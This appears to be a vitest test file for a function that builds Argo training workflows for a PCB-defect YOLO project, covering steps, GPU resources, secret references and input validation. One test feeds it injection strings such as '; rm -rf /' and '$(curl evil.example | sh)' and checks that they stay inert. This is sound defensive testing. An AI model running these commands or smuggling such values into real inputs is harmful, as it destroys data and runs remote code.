import { beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { InputError } from '@trainops/contracts';
import type { ProjectConfig } from '@trainops/projects';
import type { Container, Template, Workflow } from './argo-types.ts';
import { buildTrainWorkflow } from './build-train-workflow.ts';
import { buildSampleTrainOptions, loadShippedProjects, sampleS3Connection } from './testing/sample-options.ts';

let pcbDefect: ProjectConfig;

beforeAll(async () => {
  const projects = await loadShippedProjects();
  pcbDefect = projects.find((project) => project.name === 'pcb-defect')!;
});

function template(workflow: Workflow, name: string): Template {
  const found = workflow.spec.templates?.find((candidate) => candidate.name === name);
  if (found === undefined) throw new Error(`no template ${name} in ${workflow.spec.templates?.map((t) => t.name).join(', ')}`);
  return found;
}

function container(workflow: Workflow, name: string): Container {
  return template(workflow, name).container!;
}

/** Every string anywhere in the manifest, with where it is. */
function listStrings(value: unknown, at = ''): Array<{ at: string; text: string }> {
  if (typeof value === 'string') return [{ at, text: value }];
  if (Array.isArray(value)) return value.flatMap((item, index) => listStrings(item, `${at}/${index}`));
  if (typeof value === 'object' && value !== null) return Object.entries(value).flatMap(([key, child]) => listStrings(child, `${at}/${key}`));
  return [];
}

/** pcb-defect with one free-text parameter, which no shipped project has, to aim injections at. */
function withTextParameter(project: ProjectConfig): ProjectConfig {
  return { ...project, parameters: { ...project.parameters, note: { type: 'string', maxLength: 200 } } };
}

describe('buildTrainWorkflow', () => {
  it('builds the pcb-defect training workflow as recorded', async () => {
    const workflow = buildTrainWorkflow(buildSampleTrainOptions(pcbDefect, { params: { epochs: '50', imgsz: 800 } }));
    await expect(stringify(workflow, { aliasDuplicateObjects: false, lineWidth: 0 })).toMatchFileSnapshot('./__snapshots__/pcb-defect-train-workflow.yaml');
  });

  it('runs checkout, install, train, export and publish as a DAG over one ReadWriteOnce volume', () => {
    const workflow = buildTrainWorkflow(buildSampleTrainOptions(pcbDefect));
    const dag = template(workflow, workflow.spec.entrypoint!).dag!;
    expect(dag.tasks.map((task) => [task.name, task.depends ?? ''])).toEqual([
      ['checkout', ''],
      ['install-dependencies', 'checkout'],
      ['fetch-dataset', ''],
      ['train', 'install-dependencies && fetch-dataset'],
      ['export-onnx', 'train'],
      ['publish', 'export-onnx'],
    ]);
    expect(workflow.spec.volumeClaimTemplates?.map((claim) => [claim.metadata.name, claim.spec.accessModes])).toEqual([['workspace', ['ReadWriteOnce']]]);
    for (const step of workflow.spec.templates!.filter((candidate) => candidate.container !== undefined)) {
      expect(step.container?.volumeMounts).toContainEqual({ name: 'workspace', mountPath: '/workspace' });
    }
  });

  it('leaves out the install step without requirements and reads data.yaml from the repository', () => {
    const project: ProjectConfig = { ...pcbDefect, source: { ...pcbDefect.source, requirements: undefined }, dataset: { yaml: 'data/pcb.yaml' } };
    const workflow = buildTrainWorkflow(buildSampleTrainOptions(project));
    expect(template(workflow, 'train-pipeline').dag!.tasks.map((task) => `${task.name}<${task.depends ?? ''}`)).toEqual([
      'checkout<',
      'train<checkout',
      'export-onnx<train',
      'publish<export-onnx',
    ]);
    expect(container(workflow, 'train').args).toContain('data=/workspace/src/data/pcb.yaml');
  });

  it('trains with GPUs, cpu and memory, shared memory, node selector and tolerations from the project', () => {
    const workflow = buildTrainWorkflow(buildSampleTrainOptions(pcbDefect));
    const train = template(workflow, 'train');
    expect(train.container?.resources).toEqual({
      requests: { cpu: '8', memory: '32Gi', 'nvidia.com/gpu': '1' },
      limits: { cpu: '8', memory: '32Gi', 'nvidia.com/gpu': '1' },
    });
    expect(train.volumes).toEqual([{ name: 'dshm', emptyDir: { medium: 'Memory', sizeLimit: '8Gi' } }]);
    expect(train.container?.volumeMounts).toContainEqual({ name: 'dshm', mountPath: '/dev/shm' });
    expect(workflow.spec.nodeSelector).toEqual({ 'nvidia.com/gpu.present': 'true' });
    expect(workflow.spec.tolerations).toEqual([{ key: 'nvidia.com/gpu', operator: 'Exists', effect: 'NoSchedule' }]);
    expect(workflow.spec.activeDeadlineSeconds).toBe(43_200);
  });

  it('passes the pipeline-owned arguments around the validated parameters, one argv element each', () => {
    const workflow = buildTrainWorkflow(buildSampleTrainOptions(pcbDefect, { params: { epochs: 50, lrf: '1', cos_lr: 'yes', optimizer: 'adamw' } }));
    const args = container(workflow, 'train').args!;
    expect(args.slice(0, 8)).toEqual(['/workspace/runs/train/results.csv', '50', 'yolo', 'detect', 'train', 'data=/workspace/dataset/data.yaml', 'model=yolo26n.pt', 'epochs=50']);
    // Floats stay floats and bools are Python's, as Ultralytics reads them.
    expect(args).toEqual(expect.arrayContaining(['lrf=1.0', 'cos_lr=True', 'optimizer=AdamW', 'mosaic=1.0']));
    expect(args.slice(-3)).toEqual(['project=/workspace/runs', 'name=train', 'exist_ok=True']);
    expect(container(workflow, 'export-onnx').args).toEqual(['export', 'model=/workspace/runs/train/weights/best.pt', 'format=onnx', 'imgsz=640', 'dynamic=False']);
  });

  it.each([
    ['a command separator', '; rm -rf /'],
    ['command substitution', '$(curl evil.example | sh)'],
    ['backticks', '`id`'],
    ['quotes and a pipe', `"' | tee /etc/passwd`],
    ['a variable', '${HOME}'],
    ['newlines', 'x\nrm -rf /\n'],
  ])('keeps %s in a parameter inside its single argv element', (_label, value) => {
    const project = withTextParameter(pcbDefect);
    const workflow = buildTrainWorkflow(buildSampleTrainOptions(project, { params: { note: value } }));
    const holders = listStrings(workflow).filter((entry) => entry.text.includes(value));
    expect(holders).toEqual([{ at: expect.stringMatching(/^\/spec\/templates\/\d+\/container\/args\/\d+$/), text: `note=${value}` }]);
    // The shell only ever sees it as "$@": the script text is the same for every value.
    const train = container(workflow, 'train');
    expect(train.command?.slice(0, 2)).toEqual(['sh', '-c']);
    expect(train.command).toEqual(container(buildTrainWorkflow(buildSampleTrainOptions(project)), 'train').command);
  });

  it('refuses a parameter value with a control character, naming it, and builds nothing', () => {
    const project = withTextParameter(pcbDefect);
    const before = structuredClone(project);
    expect(() => buildTrainWorkflow(buildSampleTrainOptions(project, { params: { note: 'a\u0000b' } }))).toThrow(
      new InputError('note must not contain control characters (found U+0000)', {
        details: { problems: [{ parameter: 'note', problem: 'note must not contain control characters (found U+0000)' }] },
      }),
    );
    expect(project).toEqual(before);
  });

  it('refuses parameters the project does not open, with the same words as chat', () => {
    expect(() => buildTrainWorkflow(buildSampleTrainOptions(pcbDefect, { params: { epochs: 500, data: 'other.yaml' } }))).toThrow(
      /epochs must be between 1 and 300 \(got 500\)\nunknown parameter "data"/,
    );
  });

  it('gives the git token to the checkout only as Secret references, never in the URL or the arguments', () => {
    const workflow = buildTrainWorkflow(buildSampleTrainOptions(pcbDefect));
    const checkout = container(workflow, 'checkout-with-token');
    expect(checkout.args).toEqual(['/workspace/src', 'https://github.com/trainops-examples/pcb-defect-detection.git', 'main']);
    expect(checkout.env?.filter((env) => env.valueFrom !== undefined)).toEqual([
      { name: 'GIT_TOKEN', valueFrom: { secretKeyRef: { name: 'pcb-defect-git', key: 'token' } } },
      { name: 'GIT_USERNAME', valueFrom: { secretKeyRef: { name: 'pcb-defect-git', key: 'username', optional: true } } },
    ]);
    // The credential helper reads the variable when git asks; the manifest holds only its name.
    expect(checkout.env?.find((env) => env.name === 'GIT_CONFIG_VALUE_0')?.value).toContain('password=${GIT_TOKEN}');
  });

  it('carries no secret value anywhere: every credential is a Secret reference', () => {
    const secretValues = ['ghp_0123456789abcdefghijklmnopqrstuvwxyzAB', 'AKIAIOSFODNN7EXAMPLE', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'];
    const workflows = [
      buildTrainWorkflow(buildSampleTrainOptions(pcbDefect)),
      buildTrainWorkflow(buildSampleTrainOptions(pcbDefect, { artifactRepository: { bucket: 'trainops-artifacts', ...sampleS3Connection } })),
    ];
    for (const workflow of workflows) {
      const strings = listStrings(workflow);
      for (const secret of secretValues) expect(strings.filter((entry) => entry.text.includes(secret))).toEqual([]);
      // Nothing that looks like a credential: no user:password@ in URLs, no key=value secrets.
      expect(strings.filter((entry) => /:\/\/[^/\s]*@|password=(?!\$\{)|secret=|token=/i.test(entry.text))).toEqual([]);
      for (const entry of strings.filter((candidate) => /(accessKeySecret|secretKeySecret)\/name$/.test(candidate.at))) {
        expect(entry.text).toBe('trainops-s3');
      }
      const envs = workflow.spec.templates!.flatMap((step) => step.container?.env ?? []);
      for (const env of envs.filter((candidate) => /TOKEN|PASSWORD|SECRET|USERNAME/.test(candidate.name))) {
        expect(env.value).toBeUndefined();
        expect(env.valueFrom?.secretKeyRef).toBeDefined();
      }
    }
  });

  it('checks out an SSH repository with the key mounted from the Secret, host keys checked', () => {
    const project: ProjectConfig = { ...pcbDefect, source: { ...pcbDefect.source, repo: 'git@github.com:trainops-examples/pcb-defect-detection.git' } };
    const workflow = buildTrainWorkflow(buildSampleTrainOptions(project));
    const checkout = template(workflow, 'checkout-with-ssh-key');
    expect(checkout.volumes).toEqual([{ name: 'git-ssh', secret: { secretName: 'pcb-defect-git', defaultMode: 0o400 } }]);
    expect(checkout.container?.env?.find((env) => env.name === 'GIT_SSH_COMMAND')?.value).toContain('StrictHostKeyChecking=yes');
  });

  it('publishes the run outputs unarchived under runs/<project>/<run-id>/', () => {
    const workflow = buildTrainWorkflow(buildSampleTrainOptions(pcbDefect));
    const outputs = template(workflow, 'publish').outputs!.artifacts!;
    expect(outputs.map((artifact) => [artifact.path, artifact.s3?.key, artifact.archive])).toEqual(
      ['weights/best.pt', 'weights/last.pt', 'weights/best.onnx', 'results.csv', 'args.yaml', 'results.png'].map((file) => [
        `/workspace/runs/train/${file}`,
        `runs/pcb-defect/0b7e6a8e-1f7c-4a51-9a3e-2f1d6c0a9b11/${file}`,
        { none: {} },
      ]),
    );
    expect(workflow.spec.artifactRepositoryRef).toEqual({ configMap: 'artifact-repositories', key: 'trainops' });
  });

  it('writes whole S3 locations when given a bucket with its endpoint instead of a repository reference', () => {
    const workflow = buildTrainWorkflow(
      buildSampleTrainOptions(pcbDefect, { artifactRepository: { bucket: 'trainops-artifacts', keyPrefix: 'custom/prefix', ...sampleS3Connection }, datasetS3: undefined }),
    );
    expect(workflow.spec.artifactRepositoryRef).toBeUndefined();
    expect(template(workflow, 'publish').outputs!.artifacts![0]!.s3).toEqual({
      endpoint: 'minio.trainops.svc.cluster.local:9000',
      insecure: true,
      accessKeySecret: { name: 'trainops-s3', key: 'accessKey' },
      secretKeySecret: { name: 'trainops-s3', key: 'secretKey' },
      bucket: 'trainops-artifacts',
      key: 'custom/prefix/weights/best.pt',
    });
    // The dataset comes through the same connection, from its own bucket.
    expect(template(workflow, 'fetch-dataset').inputs!.artifacts![0]!.s3).toMatchObject({ bucket: 'trainops-datasets', key: 'deeppcb/v1', endpoint: 'minio.trainops.svc.cluster.local:9000' });
  });

  it('retries infrastructure errors of every step with backoff, never a failed step', () => {
    const workflow = buildTrainWorkflow(buildSampleTrainOptions(pcbDefect));
    for (const step of workflow.spec.templates!) {
      if (step.dag !== undefined) expect(step.retryStrategy).toBeUndefined();
      else expect(step.retryStrategy).toEqual({ limit: 3, retryPolicy: 'OnError', backoff: { duration: '30s', factor: 2, maxDuration: '15m' } });
    }
    expect(workflow.spec.ttlStrategy).toEqual({ secondsAfterSuccess: 86_400, secondsAfterFailure: 604_800 });
    expect(workflow.spec.podGC).toEqual({ strategy: 'OnPodSuccess', deleteDelayDuration: '5m' });
  });

  it('holds the project semaphore for the whole run and the GPU semaphore for training only', () => {
    const workflow = buildTrainWorkflow(buildSampleTrainOptions(pcbDefect, { gpuSemaphore: { configMap: 'trainops-gpus', key: 'training-pods' } }));
    expect(workflow.spec.synchronization).toEqual({ semaphores: [{ configMapKeyRef: { name: 'trainops-run-limits', key: 'pcb-defect' } }] });
    expect(template(workflow, 'train').synchronization).toEqual({ semaphores: [{ configMapKeyRef: { name: 'trainops-gpus', key: 'training-pods' } }] });
    const unlimited = buildTrainWorkflow(buildSampleTrainOptions({ ...pcbDefect, limits: { activeDeadlineSeconds: 3600 } }));
    expect(unlimited.spec.synchronization).toBeUndefined();
    expect(template(unlimited, 'train').synchronization).toBeUndefined();
  });

  it('labels the run with label-safe values and keeps the exact ones in annotations', () => {
    const workflow = buildTrainWorkflow(
      buildSampleTrainOptions(pcbDefect, { run: { id: 'run-42', requester: 'api:nightly scheduler (ops@example.com)', trigger: 'api' } }),
    );
    expect(workflow.metadata).toEqual({
      generateName: 'pcb-defect-',
      namespace: 'trainops',
      labels: {
        'trainops.dev/project': 'pcb-defect',
        'trainops.dev/run-id': 'run-42',
        'trainops.dev/kind': 'train',
        'trainops.dev/trigger': 'api',
        'trainops.dev/requester': 'api-nightly-scheduler--ops-example.com',
      },
      annotations: { 'trainops.dev/run-id': 'run-42', 'trainops.dev/requester': 'api:nightly scheduler (ops@example.com)' },
    });
    expect(workflow.spec.podMetadata?.labels).toEqual(workflow.metadata.labels);
  });

  it('keeps the generated name within 63 characters for the longest project name', () => {
    const longName = 'a'.repeat(40);
    const workflow = buildTrainWorkflow(buildSampleTrainOptions({ ...pcbDefect, name: longName }));
    expect(workflow.metadata.generateName).toBe(`${longName}-`);
    expect(workflow.metadata.generateName!.length + 5).toBeLessThanOrEqual(58 + 5);
  });

  it('names every wrong option in one InputError and leaves the project untouched', () => {
    const before = structuredClone(pcbDefect);
    let caught: unknown;
    try {
      buildTrainWorkflow(
        buildSampleTrainOptions(pcbDefect, {
          namespace: 'Training_NS',
          artifactRepository: { bucket: 'trainops-artifacts', endpoint: 'https://minio:9000', accessKeySecret: { name: 's3', key: 'a' } },
          images: { git: 'alpine/git:latest' },
        }),
      );
    } catch (error) {
      caught = error;
    }
    expect(caught).toBeInstanceOf(InputError);
    expect((caught as InputError).message).toBe(
      'cannot build the training workflow of project pcb-defect: ' +
        'namespace must be a Kubernetes name (lowercase letters, digits and "-", at most 63), got "Training_NS"; ' +
        'artifactRepository.endpoint must be host or host:port without a scheme (Argo takes http from insecure: true), got "https://minio:9000"; ' +
        'artifactRepository needs both accessKeySecret and secretKeySecret, or neither (to use the pod\'s own cloud identity); ' +
        'images.git must be a pinned image reference such as alpine/git:2.47.2, got "alpine/git:latest"',
    );
    expect(pcbDefect).toEqual(before);
  });

  it('asks for datasetS3 when the dataset is on S3 and outputs go through a repository reference', () => {
    expect(() => buildTrainWorkflow(buildSampleTrainOptions(pcbDefect, { datasetS3: undefined }))).toThrow(
      'cannot build the training workflow of project pcb-defect: project pcb-defect reads its dataset from s3://trainops-datasets/deeppcb/v1/data.yaml: give datasetS3 (endpoint and credentials by Secret reference), because an artifactRepositoryRef only reaches the repository\'s own bucket',
    );
  });

  it('refuses a dataset at the top of its bucket, which would copy the whole bucket', () => {
    expect(() => buildTrainWorkflow(buildSampleTrainOptions({ ...pcbDefect, dataset: { s3: 's3://trainops-datasets/data.yaml' } }))).toThrow(
      'dataset.s3 of project pcb-defect must put data.yaml in a folder (s3://trainops-datasets/<folder>/data.yaml), not at the top of the bucket',
    );
  });

  it('returns a fresh manifest each time, so editing one never changes another', () => {
    const first = buildTrainWorkflow(buildSampleTrainOptions(pcbDefect));
    const second = buildTrainWorkflow(buildSampleTrainOptions(pcbDefect));
    template(first, 'checkout-with-token').retryStrategy!.limit = 99;
    container(first, 'train').volumeMounts![0]!.mountPath = '/elsewhere';
    expect(second).toEqual(buildTrainWorkflow(buildSampleTrainOptions(pcbDefect)));
    expect(template(first, 'install-dependencies').retryStrategy!.limit).toBe(3);
  });
});
